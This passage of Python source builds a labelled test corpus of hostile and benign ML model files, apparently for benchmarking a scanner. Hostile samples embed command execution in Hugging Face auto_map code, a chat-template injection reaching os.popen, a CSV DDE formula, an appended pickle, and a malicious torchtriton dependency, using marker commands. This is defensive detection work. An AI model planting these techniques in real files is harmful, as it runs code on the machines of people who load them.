    w.directory("hf-auto-map", {
        "config.json": json.dumps({"architectures": ["EvilModel"], "model_type": "evil",
                                   "auto_map": {"AutoConfig": "configuration_evil.EvilConfig",
                                                "AutoModel": "modeling_evil.EvilModel"}}, indent=2),
        "modeling_evil.py": f"import os\n\nos.system({touch!r})\n\n\nclass EvilModel:\n    pass\n",
        "configuration_evil.py": "class EvilConfig:\n    model_type = 'evil'\n",
        "model.safetensors": st_bytes}, "config.json",
        "Hugging Face auto_map (trust_remote_code) with code that runs a command", "hf-dir", hostile=True)
    w.directory("hf-tokenizer-template", {
        "config.json": json.dumps({"architectures": ["LlamaForCausalLM"], "model_type": "llama"}),
        "tokenizer_config.json": json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": ssti}),
        "model.safetensors": st_bytes}, "tokenizer_config.json",
        "tokenizer_config.json chat template reaching os.popen", "hf-dir", hostile=True)

    # -- archives of other formats ------------------------------------------------------------------
    if _has("py7zr"):
        w.file("7z-pickle", "bundle.7z", _seven_zip({"model/model.pkl": p2(system)}), "pickle inside a 7z", "7z",
               hostile=True, needs=("py7zr",))

    # -- not model files: code, notebook, dependencies, data (mlsec-only; not in the peer table) --
    w.file("code-os-system", "train.py",
           f"import os\n\nimport torch\n\nos.system({touch!r})\nmodel = torch.load('model.pt')\n",
           "Python code running a command and torch.load without weights_only", "python", hostile=True, model=False)
    cell = (f"import os\nfrom transformers import AutoModel\n\nos.system({touch!r})\n"
            "model = AutoModel.from_pretrained('org/model', trust_remote_code=True)\n")
    notebook = {"cells": [{"cell_type": "code", "execution_count": 1, "id": "c1", "metadata": {}, "outputs": [],
                           "source": cell.splitlines(keepends=True)}],
                "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
                "nbformat": 4, "nbformat_minor": 5}
    w.file("notebook-remote-code", "explore.ipynb", json.dumps(notebook, indent=1),
           "notebook with trust_remote_code=True and os.system", "notebook", hostile=True, model=False)
    w.file("requirements-torchtriton", "requirements.txt", "torch==2.0.0\ntorchtriton==2.0.0\n",
           "requirements naming the malicious torchtriton package", "requirements", hostile=True, model=False)
    w.file("csv-dde", "prices.csv", f"name,price\nwidget,=cmd|' /C {touch}'!A0\n",
           "CSV cell with a DDE command formula", "csv", hostile=True, model=False)
    w.file("png-appended-pickle", "cat.png", png_file() + p2(system), "PNG with a pickle appended after IEND",
           "png", hostile=True, model=False)
    w.directory("hf-dataset-script", {
        "dataset_info.json": json.dumps({"description": "toy", "features": {"text": {"dtype": "string",
                                                                                      "_type": "Value"}}}),
        "toy.py": ("import os\n\nimport datasets\n\nos.system(" + repr(touch) + ")\n\n\n"
                   "class Toy(datasets.GeneratorBasedBuilder):\n    def _info(self):\n"
                   "        return datasets.DatasetInfo()\n")},
        "toy.py", "Hugging Face dataset loading script", "hf-dataset", hostile=True, model=False)
    return w.samples


def _keras_zip(layers: list[dict[str, Any]]) -> bytes:
    """A Keras 3 ``.keras`` archive: config.json (a Sequential model), metadata.json, no weights."""
    config = {"module": "keras", "class_name": "Sequential", "registered_name": None,
              "config": {"name": "sequential", "trainable": True,
                         "layers": [{"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
                                     "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"}},
                                    *layers]}}
    metadata = {"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}
    return zip_of({"metadata.json": json.dumps(metadata).encode(), "config.json": json.dumps(config).encode()})


def _keras_h5(layers: list[dict[str, Any]]) -> bytes:
    """A legacy Keras HDF5 model: the model_config root attribute (h5py writes the container)."""
    import h5py  # optional: only the writer needs it

    config = {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32",
                                                "name": "input"}}, *layers]}}
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
    return buf.getvalue()


def _seven_zip(members: dict[str, bytes]) -> bytes:
    import py7zr  # optional: only the writer needs it

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as archive:
        for name, data in members.items():
            archive.writef(io.BytesIO(data), name)
    return buf.getvalue()


# ---------------------------------------------------------------------------------------------
# The benign corpus
# ---------------------------------------------------------------------------------------------

BENIGN_FIXTURE_DIRS = ("fixtures/benign", "fixtures/formats", "fixtures/hf_model", "fixtures/demo/models")
# Directory-shaped models among the fixtures: scanned as a whole (their files belong together).
FIXTURE_MODEL_DIRS = ("fixtures/formats/onnx/external", "fixtures/formats/savedmodel/tiny_module",
                      "fixtures/formats/hf", "fixtures/hf_model")
# Committed fixtures that are hostile on purpose (the demo project's model).
HOSTILE_FIXTURES = {"fixtures/demo/models/churn_model.pkl": "demo fixture: STACK_GLOBAL posix.system"}
_FIXTURE_SKIP = (".md", ".txt")


def benign_samples(root: Path, repo: Path, large_mb: int = 2) -> list[Sample]:
    """Write the byte-crafted benign samples and copy the committed fixtures under ``root``.

    ``large_mb`` sizes three tensor-sized files (safetensors, a pickle of bytes, a .npy), so
    that throughput is measured on more than start-up time.

    The committed fixtures were made by the real libraries (torch, scikit-learn, pandas, NumPy,
    Keras, ONNX, safetensors, gguf-py, TensorFlow); those that are hostile on purpose
    (:data:`HOSTILE_FIXTURES`) are labelled hostile. Fixture folders that are absent are skipped.
    """
    w = _Writer(root)
    data = {"weights": [0.25, -1.5, 3.0], "bias": 0.1, "labels": ("cat", "dog"), "epoch": 3}
    for proto in (0, 2, 4, 5):
        w.file(f"benign-dict-p{proto}", "model.pkl", pickle.dumps(data, protocol=proto),
               f"stdlib pickle of plain data, protocol {proto}", "pickle", hostile=False)
    w.file("benign-multi-pickle", "stream.pkl", pickle.dumps(data, protocol=2) + pickle.dumps([1, 2, 3], protocol=4),
           "two pickles back to back (pickle.dump loop)", "pickle", hostile=False)
    w.file("benign-gzip-pickle", "model.pkl.gz", gzip.compress(pickle.dumps(data, protocol=4), mtime=0),
           "gzip-compressed pickle", "gzip", hostile=False)
    w.file("benign-xz-pickle", "model.pkl.xz", lzma.compress(pickle.dumps(data, protocol=4)),
           "xz-compressed pickle", "xz", hostile=False)
    w.file("benign-zip-pickle", "model.zip", zip_of({"model.pkl": pickle.dumps(data, protocol=4)}),
           "pickle inside a zip", "zip", hostile=False)
    w.file("benign-tar-pickle", "model.tar.gz", tar_of({"release/model.pkl": pickle.dumps(data, protocol=4)}, "w:gz"),
           "pickle inside a tar.gz", "tar", hostile=False)
    w.file("benign-npy", "array.npy", npy_header("<f4", (2, 2)) + struct.pack("<4f", 1, 2, 3, 4),
           "NumPy .npy float32 array", "numpy", hostile=False)
    w.file("benign-npz", "arrays.npz", zip_of({"a.npy": npy_header("<i8", (3,)) + struct.pack("<3q", 1, 2, 3),
                                              "b.npy": npy_header("<f8", (1,)) + struct.pack("<d", 0.5)}),
           "NumPy .npz of two arrays", "numpy", hostile=False)
    w.file("benign-gguf-template", "model.gguf",
           gguf_file({"general.architecture": "llama",
                      "tokenizer.chat_template": "{% for message in messages %}{{ '<|im_start|>' + message['role'] "
                                                 "+ '\\n' + message['content'] + '<|im_end|>\\n' }}{% endfor %}"
                                                 "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}"
                                                 "{% endif %}"}),
           "GGUF with a ChatML chat template", "gguf", hostile=False)
    w.file("benign-onnx", "model.onnx",
           onnx_model([onnx_node("Add", "add", ("x", "W"))], [onnx_tensor("W", [2], raw=struct.pack("<2f", 1, 2))]),
           "ONNX Add with an inline initializer", "onnx", hostile=False)
    w.file("benign-safetensors", "model.safetensors",
           safetensors_file({"a": ("F32", [2, 2], struct.pack("<4f", 1, 2, 3, 4)),
                             "b": ("I64", [1], struct.pack("<q", 1))}, {"format": "pt"}),
           "safetensors with metadata", "safetensors", hostile=False)
    w.file("benign-keras", "model.keras", _keras_zip([
        {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
         "config": {"name": "dense", "units": 2, "activation": "relu", "use_bias": True}}]),
        "Keras 3 .keras with a Dense layer", "keras", hostile=False)

    n = large_mb << 20
    w.file("benign-large-safetensors", "model.safetensors",
           safetensors_file({"embed": ("F32", [n // 4], bytes(n))}, {"format": "pt"}),
           f"safetensors, one {large_mb} MiB tensor", "safetensors", hostile=False)
    w.file("benign-large-pickle", "weights.pkl", pickle.dumps({"weights": bytes(n), "shape": (n,)}, protocol=4),
           f"stdlib pickle of {large_mb} MiB of bytes", "pickle", hostile=False)
    w.file("benign-large-npy", "weights.npy", npy_header("<f4", (n // 4,)) + bytes(n),
           f"NumPy .npy, {large_mb} MiB float32", "numpy", hostile=False)

    state = repo / "fixtures" / "benign" / "torch" / "state_dict.pt"
    if state.is_file():
        w.file("benign-torch-repacked", "model.pt", _repack_torch(state.read_bytes(), "my_model_v2"),
               "torch.save output re-packed under another folder name", "torch-zip", hostile=False,
               origin="fixtures/benign/torch/state_dict.pt")

    for sample in _fixture_samples(root, repo):
        w.samples.append(sample)
    return w.samples


def _repack_torch(data: bytes, folder: str) -> bytes:
    """The members of a torch zip under a different top folder, order and methods kept."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            new = zipfile.ZipInfo(folder + "/" + info.filename.split("/", 1)[1], date_time=info.date_time)
            new.compress_type = info.compress_type
            dst.writestr(new, src.read(info))
    return out.getvalue()


def _fixture_samples(root: Path, repo: Path) -> list[Sample]:
    samples: list[Sample] = []
    covered: set[Path] = set()
    for rel_dir in FIXTURE_MODEL_DIRS:
        src = repo / rel_dir
        if not src.is_dir():
            continue
        sid = "fixture-" + rel_dir.removeprefix("fixtures/").replace("/", "-")
        shutil.copytree(src, root / sid, dirs_exist_ok=True)
        covered.add(src)
        weights = sorted(p.name for p in src.iterdir() if p.suffix in (".onnx", ".pb", ".safetensors"))
        samples.append(Sample(sid, f"directory made by the library ({rel_dir})", _fixture_format(rel_dir), False,
                              sid, f"{sid}/{weights[0] if weights else ''}", True, (), rel_dir))
    for rel_dir in BENIGN_FIXTURE_DIRS:
        base = repo / rel_dir
        if not base.is_dir():
            continue
        for src in sorted(base.rglob("*")):
            if (not src.is_file() or src.name.endswith(_FIXTURE_SKIP) or src.name.startswith("make_")
                    or any(d in src.parents for d in covered)):
                continue
            rel = src.relative_to(repo).as_posix()
            sid = "fixture-" + rel.removeprefix("fixtures/").replace("/", "-")
            (root / sid).mkdir(parents=True, exist_ok=True)
            shutil.copyfile(src, root / sid / src.name)
            hostile = rel in HOSTILE_FIXTURES
            technique = HOSTILE_FIXTURES.get(rel, f"made by the library ({rel})")
            needs = ("h5py",) if src.suffix == ".h5" else ("py7zr",) if src.suffix == ".7z" else ()
            samples.append(Sample(sid, technique, _fixture_format(rel), hostile, f"{sid}/{src.name}",
                                  f"{sid}/{src.name}", True, needs, rel))
    return samples


def _fixture_format(rel: str) -> str:
    name = rel.lower()
    for key, fmt in (("onnx", "onnx"), ("savedmodel", "savedmodel"), ("hf", "hf-dir"), ("gguf", "gguf"),
                     ("safetensors", "safetensors"), (".h5", "keras-h5"), (".keras", "keras"), (".7z", "7z"),
                     (".npz", "numpy"), (".npy", "numpy"), ("joblib", "joblib"), ("torch", "torch"),
                     (".pt", "torch"), (".pkl", "pickle")):
        if key in name:
            return fmt
    return "other"


def write_manifest(path: Path, samples: list[Sample]) -> None:
    """The labels as JSON (one object per sample), for tools that read the corpus later."""
    path.write_text(json.dumps([s.to_dict() for s in samples], indent=1) + "\n")
